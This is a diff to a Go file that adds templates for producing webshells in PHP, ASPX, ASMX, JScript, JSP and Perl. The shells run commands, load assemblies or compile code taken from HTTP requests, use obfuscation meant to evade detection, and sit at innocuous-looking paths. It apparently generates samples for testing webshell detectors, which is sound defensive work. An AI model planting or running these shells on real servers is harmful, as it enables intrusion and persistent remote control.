@@ -229,6 +229,186 @@ var seeds = []seed{
 		}
 		return "require 'cgi'\ncgi = CGI.new\n" + get + "\n" + cm(o, "hash") + "puts cgi.header\n" + call + "\n"
 	}},
+	// a function name computed by string functions on constants
+	{name: "php-computed-name", lang: "php", path: "/var/www/html/lib/cache.php", render: func(o opts) string {
+		get := "$" + o.v + " = $_POST['k'];"
+		if o.array {
+			get = "$" + o.w + " = array('k' => $_POST['k']); $" + o.v + " = $" + o.w + "['k'];"
+		}
+		name := "$fn = " + mc(o, "substr") + "('xassert', 1);"
+		if o.concat {
+			name = "$fn = ('!' ^ '@') . " + cat(o, "ssert", ".", "'") + ";"
+		}
+		call := "$fn($" + o.v + ");"
+		if o.callback {
+			call = mc(o, "array_map") + "($fn, array($" + o.v + "));"
+		}
+		return get + nl(o) + cm(o, "c") + name + nl(o) + mc(o, "strtr") + "('a', 'b', 'c');" + nl(o) + call
+	}},
+	// a function's parameter called as a function, passed the name of one that runs commands
+	{name: "php-callable-param", lang: "php", path: "/var/www/html/plugins/run.php", render: func(o opts) string {
+		get := "$" + o.v + " = $_GET['c'];"
+		if o.array {
+			get = "$" + o.w + " = [$_GET['c']]; $" + o.v + " = $" + o.w + "[0];"
+		}
+		call := mc(o, "run_cb") + "(" + cat(o, "system", ".", "'") + ", $" + o.v + ");"
+		if o.callback {
+			call = "$h = 'run_cb';" + nl(o) + "$h(" + cat(o, "system", ".", "'") + ", $" + o.v + ");"
+		}
+		return "function run_cb($g, $p) {" + nl(o) + cm(o, "c") + "return $g($p);" + nl(o) + "}" + nl(o) + get + nl(o) + call
+	}},
+	// an uploaded file moved to a path the request names
+	{name: "php-dropper", lang: "php", path: "/var/www/html/upload/up.php", render: func(o opts) string {
+		get := "$" + o.v + " = $_FILES['up']['tmp_name']; $to = $_POST['to'];"
+		if o.array {
+			get = "$" + o.w + " = array('to' => $_POST['to']); $to = $" + o.w + "['to']; $" + o.v + " = $_FILES['up']['tmp_name'];"
+		}
+		if o.concat {
+			get += nl(o) + "$to = $to . '/' . " + cat(o, "x.php", ".", "'") + ";"
+		}
+		call := mc(o, "move_uploaded_file") + "($" + o.v + ", $to);"
+		if o.callback {
+			call = mc(o, "call_user_func_array") + "(" + cat(o, "move_uploaded_file", ".", "'") + ", array($" + o.v + ", $to));"
+		}
+		return "if (!empty($_FILES)) {" + nl(o) + get + nl(o) + cm(o, "c") + call + nl(o) + "echo 'ok';" + nl(o) + "}"
+	}},
+	// a superglobal reached through a variable variable
+	{name: "php-varvar", lang: "php", path: "/var/www/html/wp-content/themes/t/footer.php", render: func(o opts) string {
+		get := "foreach (array(" + cat(o, "_GET", ".", "'") + ") as $s) { $r = $$s; }" + nl(o) + "$" + o.v + " = $r['c'];"
+		if o.array {
+			get = "foreach (array(" + cat(o, "_GET", ".", "'") + ") as $s) { $" + o.w + " = array($$s); }" + nl(o) + "$" + o.v + " = $" + o.w + "[0]['c'];"
+		}
+		call := mc(o, "system") + "($" + o.v + ");"
+		if o.callback {
+			call = mc(o, "call_user_func") + "(" + cat(o, "system", ".", "'") + ", $" + o.v + ");"
+		}
+		return get + nl(o) + cm(o, "c") + call
+	}},
+	// a command in a header the client sends, read from the environment
+	{name: "php-header-env", lang: "php", path: "/var/www/html/index2.php", render: func(o opts) string {
+		get := "$" + o.v + " = " + mc(o, "getenv") + "(" + cat(o, "HTTP_X_RUN", ".", "'") + ");"
+		if o.array {
+			get = "$" + o.w + " = array(" + mc(o, "getenv") + "('HTTP_X_RUN')); $" + o.v + " = $" + o.w + "[0];"
+		}
+		call := mc(o, "passthru") + "($" + o.v + ");"
+		if o.callback {
+			call = mc(o, "call_user_func") + "(" + cat(o, "passthru", ".", "'") + ", $" + o.v + ");"
+		}
+		return "if (" + mc(o, "getenv") + "('HTTP_X_RUN')) {" + nl(o) + get + nl(o) + cm(o, "c") + call + nl(o) + "}"
+	}},
+	// an ASP.NET server control's text runs a command
+	{name: "aspx-webcontrol", lang: "aspx", path: "/inetpub/wwwroot/admin/tools.aspx", render: func(o opts) string {
+		val := o.v + ".Text"
+		pre := ""
+		if o.array {
+			pre = "string[] " + o.w + " = new string[] { " + o.v + ".Text };" + nl(o)
+			val = o.w + "[0]"
+		}
+		return "%><form runat=\"server\"><asp:TextBox ID=\"" + o.v + "\" runat=\"server\" /></form><%" + nl(o) + pre + cm(o, "c") +
+			"var psi = new System.Diagnostics.ProcessStartInfo(" + cat(o, "cmd.exe", "+", `"`) + ", \"/c \" + " + val + ");" + nl(o) +
+			"psi.UseShellExecute = false;" + nl(o) + "System.Diagnostics.Process.Start(psi);"
+	}},
+	// an ASMX web method's parameters run a command
+	{name: "asmx-webmethod", lang: "asmx", path: "/inetpub/wwwroot/svc/status.asmx", render: func(o opts) string {
+		val := o.v
+		pre := ""
+		if o.array {
+			pre = "string[] " + o.w + " = { " + o.v + " };" + nl(o)
+			val = o.w + "[0]"
+		}
+		return "using System.Web.Services;\npublic class Svc : WebService {" + nl(o) + "[WebMethod]" + nl(o) + "public string Run(string " + o.v + ") {" + nl(o) +
+			pre + cm(o, "c") + "var p = System.Diagnostics.Process.Start(" + cat(o, "cmd.exe", "+", `"`) + ", \"/c \" + " + val + ");" + nl(o) +
+			"return p.StandardOutput.ReadToEnd();" + nl(o) + "}" + nl(o) + "}"
+	}},
+	// an assembly loaded from request bytes through reflection
+	{name: "aspx-reflect-load", lang: "aspx", path: "/inetpub/wwwroot/App_Data/x.aspx", render: func(o opts) string {
+		get := "byte[] " + o.v + " = System.Convert.FromBase64String(Request.Form[" + cat(o, "d", "+", `"`) + "]);"
+		if o.array {
+			get = "var " + o.w + " = new System.Collections.Generic.List<string>(); " + o.w + ".Add(Request.Form[\"d\"]);" + nl(o) +
+				"byte[] " + o.v + " = System.Convert.FromBase64String(" + o.w + "[0]);"
+		}
+		return get + nl(o) + cm(o, "c") + "var asm = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(" + cat(o, "Load", "+", `"`) +
+			", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { " + o.v + " });" + nl(o) + "asm.CreateInstance(\"P\").Equals(this);"
+	}},
+	// Runtime.exec reached by reflection on names spelled as byte arrays
+	{name: "jsp-reflect-bytes", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/css.jsp", render: func(o opts) string {
+		get := "String " + o.v + " = request.getParameter(" + cat(o, "q", "+", `"`) + ");"
+		if o.array {
+			get = "String[] " + o.w + " = new String[] { request.getParameter(\"q\") };" + nl(o) + "String " + o.v + " = " + o.w + "[0];"
+		}
+		return get + nl(o) + cm(o, "c") + "Class rt = Class.forName(new String(new byte[] {106, 97, 118, 97, 46, 108, 97, 110, 103, 46, 82, 117, 110, 116, 105, 109, 101}));" + nl(o) +
+			"Process p = (Process) rt.getMethod(new String(new byte[] {101, 120, 101, 99}), String.class).invoke(rt.getMethod(" + cat(o, "getRuntime", "+", `"`) + ").invoke(null), " + o.v + ");"
+	}},
+	// an XSLT stylesheet whose script block evaluates request input, compiled by the page
+	{name: "aspx-xslt", lang: "aspx", path: "/inetpub/wwwroot/report.aspx", render: func(o opts) string {
+		body := "function f() { var r = System.Web.HttpContext.Current.Request; eval(r.Item['" + o.v + "'], 'unsafe'); return ''; }"
+		if o.array {
+			body = "function f() { var r = System.Web.HttpContext.Current.Request; var " + o.w + " = [r.Item['" + o.v + "']]; eval(" + o.w + "[0], 'unsafe'); return ''; }"
+		}
+		return "string xslt = @\"<xsl:stylesheet version=\"\"1.0\"\" xmlns:xsl=\"\"http://www.w3.org/1999/XSL/Transform\"\" xmlns:msxsl=\"\"urn:schemas-microsoft-com:xslt\"\" xmlns:u=\"\"urn:u\"\">" +
+			"<msxsl:script language=\"\"JScript\"\" implements-prefix=\"\"u\"\"><![CDATA[" + body + "]]></msxsl:script>" +
+			"<xsl:template match=\"\"/\"\"><xsl:value-of select=\"\"u:f()\"\"/></xsl:template></xsl:stylesheet>\";" + nl(o) + cm(o, "c") +
+			"var t = new System.Xml.Xsl.XslCompiledTransform();" + nl(o) + "var d = new System.Xml.XmlDocument(); d.LoadXml(xslt);" + nl(o) +
+			"t.Load(d, System.Xml.Xsl.XsltSettings.TrustedXslt, new System.Xml.XmlUrlResolver());" + nl(o) +
+			"t.Transform(new System.Xml.XmlDocument(), null, new System.IO.MemoryStream());"
+	}},
+	// a request read hidden in an encoded literal, evaluated by an eval wrapper
+	{name: "jscript-eval-wrapper", lang: "jscript", path: "/inetpub/wwwroot/aspnet_client/e.aspx", render: func(o opts) string {
+		read := "System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"" + b64("Request.Item[\""+o.v+"\"]") + "\"))"
+		arg := o.w + "(" + read + ")"
+		pre := ""
+		if o.array {
+			pre = "var arr = [" + o.w + "(" + read + ")];" + nl(o)
+			arg = "arr[0]"
+		}
+		return "function " + o.w + "(s) {" + nl(o) + "return eval(s, " + cat(o, "unsafe", "+", `"`) + ");" + nl(o) + "}" + nl(o) + pre + cm(o, "c") + o.w + "(" + arg + ");"
+	}},
+	// any method of any object called by name through java.beans.Expression
+	{name: "jsp-beans-expression", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/WEB-INF/x.jsp", render: func(o opts) string {
+		get := "Object[] " + o.v + " = new Object[] { request.getParameter(" + cat(o, "c", "+", `"`) + ") };"
+		if o.array {
+			get = "java.util.List<Object> " + o.w + " = new java.util.ArrayList<>(); " + o.w + ".add(request.getParameter(\"c\"));" + nl(o) + "Object[] " + o.v + " = " + o.w + ".toArray();"
+		}
+		return get + nl(o) + cm(o, "c") + "StringBuilder m = new StringBuilder(); m.append((char) 101).append((char) 120).append((char) 101).append((char) 99);" + nl(o) +
+			"Object r = new java.beans.Expression(Runtime.getRuntime(), m.toString(), " + o.v + ").getValue();"
+	}},
+	// a script engine handed the servlet request evaluates a script that reads it
+	{name: "jsp-script-engine-request", lang: "jsp", path: "/opt/jetty/webapps/app/js.jsp", render: func(o opts) string {
+		script := "var p = " + o.v + ".getParameter('c'); java.lang.Runtime.getRuntime().exec(p);"
+		return "javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName(" + cat(o, "nashorn", "+", `"`) + ");" + nl(o) +
+			cm(o, "c") + "e.put(\"" + o.v + "\", request);" + nl(o) + "e.eval(new String(java.util.Base64.getDecoder().decode(\"" + b64(script) + "\")));"
+	}},
+	// a class defined from BCEL bytes the page carries
+	{name: "jsp-bcel", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/b.jsp", render: func(o opts) string {
+		lit := "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dQ$cbN$c2$40$U$3d$d3$96$96$f2$X$q$Sc$8c$t$c4$85$Q$R$qu$c1$a2"
+		load := "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(" + o.v + ")"
+		if o.array {
+			load = "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(" + o.w + "[0])"
+		}
+		pre := "String " + o.v + " = " + cat(o, lit, "+", `"`) + ";"
+		if o.array {
+			pre += nl(o) + "String[] " + o.w + " = { " + o.v + " };"
+		}
+		return pre + nl(o) + cm(o, "c") + "out.print(" + load + ".getConstructor(String.class).newInstance(request.getParameter(\"k\")));"
+	}},
+	// Java source built from request input, written out and compiled by javax.tools
+	{name: "jsp-javac", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/c.jsp", render: func(o opts) string {
+		get := "String " + o.v + " = request.getParameter(" + cat(o, "q", "+", `"`) + ");"
+		if o.array {
+			get = "String[] " + o.w + " = { request.getParameter(\"q\") };" + nl(o) + "String " + o.v + " = " + o.w + "[0];"
+		}
+		return get + nl(o) + cm(o, "c") + "javax.tools.JavaCompiler jc = javax.tools.ToolProvider.getSystemJavaCompiler();" + nl(o) +
+			"String src = \"public class K { static { try { Runtime.getRuntime().exec(\\\"\" + " + o.v + " + \"\\\"); } catch (Exception e) {} } }\";" + nl(o) +
+			"java.nio.file.Files.write(java.nio.file.Paths.get(\"/tmp/K.java\"), src.getBytes());" + nl(o) + "jc.run(null, null, null, \"/tmp/K.java\");"
+	}},
+	// a Perl pipe open whose program the request names
+	{name: "perl-list-open", lang: "perl", path: "/usr/lib/cgi-bin/ver.cgi", render: func(o opts) string {
+		get := "my $" + o.v + " = $q->param(" + cat(o, "p", ".", "'") + ");"
+		if o.array {
+			get = "my @" + o.w + " = ($q->param('p'));\nmy $" + o.v + " = $" + o.w + "[0];"
+		}
+		return "use CGI;\nmy $q = CGI->new;\n" + get + "\n" + cm(o, "hash") + "print $q->header('text/plain');\nopen(my $fh, '-|', $" + o.v + ", '--version') or die;\nprint while <$fh>;\n"
+	}},
 }
 
 // wrapPage wraps code into the file the language runs.
@@ -242,6 +422,8 @@ func wrapPage(lang, code string) string {
 		return "<%@ Page Language=\"C#\" %>\n<%\n" + code + "\n%>\n"
 	case "jscript":
 		return "<%@ Page Language=\"Jscript\" %>\n<%\n" + code + "\n%>\n"
+	case "asmx":
+		return "<%@ WebService Language=\"C#\" Class=\"Svc\" %>\n" + code + "\n"
 	case "asp":
 		return "<%\r\n" + code + "\r\n%>\r\n"
 	case "perl":
